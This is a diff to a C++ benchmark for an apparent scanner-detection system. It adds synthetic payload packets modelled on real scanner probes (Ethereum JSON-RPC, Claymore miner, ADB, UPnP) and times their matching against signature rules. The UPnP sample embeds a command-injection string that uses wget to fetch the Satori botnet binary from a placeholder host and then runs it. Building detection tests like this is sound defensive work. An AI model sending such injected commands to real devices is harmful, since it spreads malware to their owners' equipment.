@@ -4,7 +4,10 @@
 //   build/test/stage_bench [--packets N] [--sources N] [--capacity N]
 //
 // Frames are SYNs from `sources` addresses in a mix of tools (masscan, ZMap, nmap, Mirai,
-// plain Linux stacks) to watched and random ports, built in memory before timing starts.
+// plain Linux stacks) to watched and random ports, built in memory before timing starts. The
+// last stage sends payload packets instead (one-shot requests: PSH|ACK|FIN with a JSON-RPC,
+// Claymore, ADB, UPnP exploit or plain HTTP payload) through a worker with the payload rules
+// (--rules FILE, default config/signatures.rules of the source tree).
 
 #include <rte_cycles.h>
 #include <rte_eal.h>
@@ -34,7 +37,40 @@ struct options {
   uint32_t capacity = 262144;
   int only = -1;  // run one stage (0-3) only, e.g. under a profiler
   std::string write_pcap;  // write the synthetic frames as a capture and exit
+  std::string rules = SCANSCOPE_SOURCE_DIR "/config/signatures.rules";
 };
+
+/** A one-shot request as scanners send them after the handshake: payload, then FIN. */
+bytes make_request(uint32_t i, uint32_t src) {
+  static const std::pair<uint16_t, std::string> payloads[] = {
+      {8545,
+       "POST / HTTP/1.1\r\nHost: 203.0.113.9:8545\r\nContent-Type: application/json\r\n"
+       "Content-Length: 64\r\n\r\n{\"jsonrpc\":\"2.0\",\"method\":\"eth_accounts\",\"params\":[],"
+       "\"id\":1}"},
+      {3333, "{\"id\":0,\"jsonrpc\":\"2.0\",\"method\":\"miner_getstat1\"}\n"},
+      {5555, std::string("CNXN\x01\x00\x00\x01\x00\x00\x10\x00\x77\x00\x00\x00\x40\x2e"
+                         "\x00\x00\xbc\xb1\xa7\xb1host::features=shell_v2,cmd,stat_v2",
+                         59)},
+      {52869,
+       "POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:"
+       "1#AddPortMapping\r\n\r\n<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:AddPortMapping>"
+       "<NewInternalClient>`cd /var; wget http://192.0.2.1/bins/satori.mips -O nig; ./nig`"
+       "</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>"},
+      {80, "GET / HTTP/1.1\r\nHost: 203.0.113.9\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n"},
+  };
+  const auto& [port, text] = payloads[i % 5];
+  ipv4_fields ip;
+  ip.src = src;
+  ip.dst = 0xCB007100 | (i & 0xFF);
+  tcp_fields t;
+  t.dst_port = port;
+  t.src_port = static_cast<uint16_t>(32768 + (i * 7919) % 28000);
+  t.seq = i * 2654435761u;
+  t.ack = 1;
+  t.window = 502;
+  t.flags = tcp_flag::psh | tcp_flag::ack | tcp_flag::fin;
+  return ethernet(0x0800) + ipv4(ip, tcp(t, bytes(text.begin(), text.end())));
+}
 
 /** Classic pcap, microsecond timestamps, Ethernet: one frame per 10 us from 2018-12-03. */
 bool write_capture(const std::string& path, const std::vector<bytes>& frames) {
@@ -100,6 +136,31 @@ uint16_t port_for(uint32_t i) {
   return i % 8 == 7 ? static_cast<uint16_t>(1024 + (i * 31) % 60000) : watched[i % 10];
 }
 
+/**
+ * Frames built once into one arena, with references walked by a wrapping index: no division
+ * per packet in the timed loops. Rounded up to a multiple of 32 so bursts never straddle.
+ */
+struct frame_set {
+  std::vector<uint8_t> arena;
+  std::vector<frame_ref> refs;
+
+  template <typename Make>
+  frame_set(uint32_t count, Make&& make) {
+    std::vector<std::pair<size_t, uint32_t>> at;
+    for (uint32_t i = 0; i < count; ++i) {
+      const bytes f = make(i);
+      at.emplace_back(arena.size(), static_cast<uint32_t>(f.size()));
+      arena.insert(arena.end(), f.begin(), f.end());
+    }
+    for (const auto& [offset, length] : at) {
+      refs.push_back({arena.data() + offset, length, length, 1000000000ULL});
+    }
+    while (refs.size() % 32 != 0) {
+      refs.push_back(refs[refs.size() % count]);
+    }
+  }
+};
+
 struct stage_result {
   const char* name;
   double cycles_per_packet;
@@ -130,6 +191,8 @@ int main(int argc, char** argv) {
       o.packets = v;
     } else if (a == "--sources") {
       o.sources = static_cast<uint32_t>(v);
+    } else if (a == "--rules") {
+      o.rules = argv[i + 1];
     } else if (a == "--write-pcap") {
       o.write_pcap = argv[i + 1];
     } else if (a == "--only") {
@@ -171,23 +234,9 @@ int main(int argc, char** argv) {
 
   // Distinct frames: one per source, cycled through.
   const uint32_t distinct = o.sources;
-  std::vector<uint8_t> arena;
-  std::vector<uint32_t> offsets, lengths;
-  for (uint32_t i = 0; i < distinct; ++i) {
-    const bytes f = make_syn(i, 0x0A000000 + i * 16 + 1, port_for(i));
-    offsets.push_back(static_cast<uint32_t>(arena.size()));
-    lengths.push_back(static_cast<uint32_t>(f.size()));
-    arena.insert(arena.end(), f.begin(), f.end());
-  }
-  // Frame references laid out once, walked with a wrapping index: no division per packet in
-  // the timed loops. `distinct` is rounded up to a multiple of 32 so bursts never straddle.
-  std::vector<frame_ref> refs;
-  for (uint32_t i = 0; i < distinct; ++i) {
-    refs.push_back({arena.data() + offsets[i], lengths[i], lengths[i], 1000000000ULL});
-  }
-  while (refs.size() % 32 != 0) {
-    refs.push_back(refs[refs.size() % distinct]);
-  }
+  frame_set syns(distinct, [](uint32_t i) { return make_syn(i, 0x0A000000 + i * 16 + 1, port_for(i)); });
+  frame_set requests(distinct, [](uint32_t i) { return make_request(i, 0x0A000000 + i * 16 + 1); });
+  const std::vector<frame_ref>& refs = syns.refs;
   const size_t laps_of = refs.size();
 
   std::string error;
@@ -198,9 +247,17 @@ int main(int argc, char** argv) {
   config.clusters = &*clusters;
   config.source_capacity = o.capacity;
   auto w = worker::create(config, error);
+  auto rules = signature_db::load(o.rules, "", error);
+  if (!rules) {
+    std::fprintf(stderr, "stage_bench: %s\n", error.c_str());
+    return 1;
+  }
+  config.signatures = rules.get();
+  config.name = "payload";
+  auto payload_worker = worker::create(config, error);
   auto table = source_table::create("bench_sources", "sources", o.capacity, -1,
                                     3600ULL * 1000000000ULL, error);
-  if (!w || !table) {
+  if (!w || !table || !payload_worker) {
     std::fprintf(stderr, "stage_bench: %s\n", error.c_str());
     return 1;
   }
@@ -252,6 +309,14 @@ int main(int argc, char** argv) {
       w->handle_burst(&refs[at], 32);
     }
   }));
+  const std::vector<frame_ref>& req = requests.refs;
+  const uint64_t payload_packets = o.packets / 4;
+  results.push_back(measure("whole worker, payload packets, default rules", payload_packets, [&] {
+    for (uint64_t n = 0, at = 0; n < payload_packets;
+         n += 32, at = at + 32 == req.size() ? 0 : at + 32) {
+      payload_worker->handle_burst(&req[at], 32);
+    }
+  }));
 
   const double hz = static_cast<double>(rte_get_tsc_hz());
   std::printf("stage_bench: %" PRIu64 " packets, %u distinct sources, table capacity %u, "
@@ -264,8 +329,14 @@ int main(int argc, char** argv) {
   }
   std::printf("  source table: %" PRIu64 " live, %" PRIu64 " evicted\n",
               w->sources().counters().live.read(), w->sources().counters().evicted.read());
+  if (const signature_scanner* sc = payload_worker->scanner()) {
+    std::printf("  payload scan: %" PRIu64 " payloads, %" PRIu64 " bytes, %zu rules\n",
+                sc->counters().packets.read(), sc->counters().bytes.read(),
+                rules->rules().size());
+  }
   const std::string runtime_dir = rte_eal_get_runtime_dir();
   w.reset();
+  payload_worker.reset();
   table.reset();
   rte_eal_cleanup();
   std::error_code ignored;
